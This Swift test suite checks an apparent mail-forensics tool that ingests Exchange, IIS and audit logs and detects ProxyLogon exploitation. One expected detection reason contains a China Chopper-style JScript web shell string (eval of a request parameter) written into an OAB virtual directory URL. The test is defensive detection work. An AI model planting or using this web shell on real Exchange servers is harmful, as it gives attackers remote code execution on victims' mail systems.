import AuditSources
import Detection
import Foundation
import Ingest
import PostgresClient
import Rankings
import ReadModel
import Reports
import Store
import Testing

@Suite("On-premises and web sources in PostgreSQL")
struct SourcesTests {
    func ingest(_ paths: [String], into connection: Connection, reload: Bool = false) throws -> IngestSummary {
        var options = Ingestor.Options()
        options.read = ReadOptions(tenant: "northwind")
        options.reloadUnchanged = reload
        return try Ingestor(connection: connection, options: options, logger: TestDatabase.logger)
            .ingest(InputFile.expand(paths))
    }

    func fixture(_ name: String) -> String { IngestTests.fixtures.appendingPathComponent(name).path }

    /// A ProxyLogon step that one on-premises log shows alone: what the fixture loads, and the
    /// first reason of the session that ranks first.
    struct OneLogAttack: Sendable, CustomTestStringConvertible {
        var fixture: String
        var loaded: Int
        var quarantined: Int
        var skipped: Int
        var detector: String
        var reason: String

        var testDescription: String { detector }
    }

    @Test(
        "a ProxyLogon write ranks critical from one on-premises log alone",
        arguments: [
            // A web shell written through the ECP into an OAB ExternalUrl (CVE-2021-27065).
            OneLogAttack(
                fixture: "ecp-server.log", loaded: 3, quarantined: 1, skipped: 1, detector: "virtual-directory-script",
                reason: #"an unnamed identity set Set-OabVirtualDirectory ExternalUrl to script: http://f/<script "#
                    + #"language="JScript" runat="server">function Page_Load(){eval(Request["unsafe"],"unsafe");}"#
                    + "</script>"),
            // An OAB download written as a web page outside OAB\Temp (CVE-2021-26858): "oab-file-write".
            OneLogAttack(
                fixture: "oab-generator.log", loaded: 3, quarantined: 1, skipped: 2, detector: "oab-file-write",
                reason: #"The OAB generator wrote C:\inetpub\wwwroot\aspnet_client\system_web\Zk3pQ.aspx, outside "#
                    + #"ClientAccess\OAB\Temp: a script page the web server may run"#),
        ])
    func oneLogAttack(_ attack: OneLogAttack) throws {
        let connection = try TestDatabase.fresh("onelog").connect()
        let summary = try ingest([fixture(attack.fixture)], into: connection)
        #expect(summary.loaded == attack.loaded)
        #expect(summary.quarantined == attack.quarantined && summary.otherWorkloads == attack.skipped)
        _ = try DetectionRunner(sql: TestDatabase.sql, logger: TestDatabase.logger).run(connection)
        let top = try #require(try RankedSession.top(5, minimumScore: 0, from: connection).first)
        #expect(top.severity == "critical")
        #expect(top.detectors.first == attack.detector)
        #expect(top.reasons.first == attack.reason)
    }

    @Test("oab-file-write: a download that failed inside ClientAccess\\OAB\\Temp is not flagged")
    func oabDownloadInsideItsFolder() throws {
        let connection = try TestDatabase.fresh("oab_benign").connect()
        let temp = FileManager.default.temporaryDirectory.appendingPathComponent("mailhound-oab-\(UUID()).LOG")
        defer { try? FileManager.default.removeItem(at: temp) }
        try
            ("#Log-type: OABGenerator Log\r\n2021-03-03T03:31:14.080Z,EXCH01,Warning,Download failed and temporary "
            + #"file 'C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\OAB\Temp\1c7a2d94\oab.lzx' "#
            + "needs to be removed.\r\n").write(to: temp, atomically: true, encoding: .utf8)
        #expect(try ingest([temp.path], into: connection).loaded == 1)
        _ = try DetectionRunner(sql: TestDatabase.sql, logger: TestDatabase.logger).run(connection)
        let flagged = try connection.execute(
            "select count(*) as n from mailhound.findings where detector_id = 'oab-file-write'")
        #expect(flagged.rows.first?.int("n") == 0)
    }

    @Test("mail read through Graph by an app-only identity is judged like any mail read")
    func graphActivity() throws {
        let connection = try TestDatabase.fresh("graphactivity").connect()
        let summary = try ingest([fixture("graph-activity.jsonl")], into: connection)
        #expect(summary.loaded == 3 && summary.quarantined == 1 && summary.otherWorkloads == 3)
        _ = try DetectionRunner(sql: TestDatabase.sql, logger: TestDatabase.logger).run(connection)
        // Its two sessions: one under the sign-in's id, one without.
        let app = try RankedSession.top(10, minimumScore: 0, from: connection).filter {
            $0.actor == "ServicePrincipal_5b0f7a1c-1f7e-4a6b-9b52-0c7b1d1e9a01"
        }
        #expect(Set(app.flatMap(\.mailboxOwners)) == ["ceo@contoso.example", "cfo@contoso.example"])
        #expect(app.contains { $0.detectors.contains("non-owner-sync") })
        #expect(app.allSatisfy { $0.detectors.contains("machine-identity") })
    }

    @Test("flagged web requests from an address land, as evidence, on the mailbox sessions from that address")
    func correlation() throws {
        let connection = try TestDatabase.fresh("correlation").connect()
        let summary = try ingest(
            [
                fixture("httpproxy.log"), fixture("iis.log"), fixture("mailbox-audit-dmy.csv"),
                fixture("admin-audit.csv"),
            ],
            into: connection)
        #expect(summary.loaded == 3 + 6 + 4 + 3)
        #expect(summary.quarantined == 2 + 1 + 1 + 1)
        _ = try DetectionRunner(sql: TestDatabase.sql, logger: TestDatabase.logger).run(connection)
        let sessions = try RankedSession.top(50, minimumScore: 0, from: connection)
        let theft = try #require(sessions.first { $0.actor == "svc-archive" })
        #expect(theft.detectors.contains("web-exploit"))
        #expect(theft.reasons.contains { $0.contains("2001:db8::66") && $0.contains("ssrf-anchor") })
        #expect(theft.webEvidence.map(\.url).contains("/ecp/y.js"))
        #expect(theft.webEvidence.allSatisfy { $0.clientIP == "2001:db8::66" && !$0.indicators.isEmpty })
        // The owner's own session from another address gets none of it.
        let ownerEvidence = try connection.execute(
            """
            select count(*) as n from analyst.session_web_evidence as e
            join mailhound.sessions as s using (tenant, session_id)
            where s.actor = 'ceo@northwind.example'
            """)
        #expect(ownerEvidence.rows.first?.int("n") == 0)
        #expect(SessionReport.json([theft]).contains("\"web_evidence\""))
    }

    @Test("a web log or an export copied elsewhere loads nothing twice")
    func copiesAreDeduplicated() throws {
        let connection = try TestDatabase.fresh("copies").connect()
        let names = ["httpproxy.log", "iis.log", "mailbox-audit-dmy.csv", "admin-audit.csv"]
        let first = try ingest(names.map(fixture), into: connection)
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("mailhound-copies-\(UUID())")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        for name in names {
            try Data(contentsOf: URL(fileURLWithPath: fixture(name)))
                .write(to: folder.appendingPathComponent("copy-of-" + name))
        }
        let second = try ingest([folder.path], into: connection)
        #expect(second.loaded == 0)
        #expect(second.duplicates == first.loaded)
        let rows = try connection.execute(
            "select (select count(*) from mailhound.web_requests) + (select count(*) from mailhound.events) as n")
        #expect(rows.rows.first?.int("n") == first.loaded)
    }
}
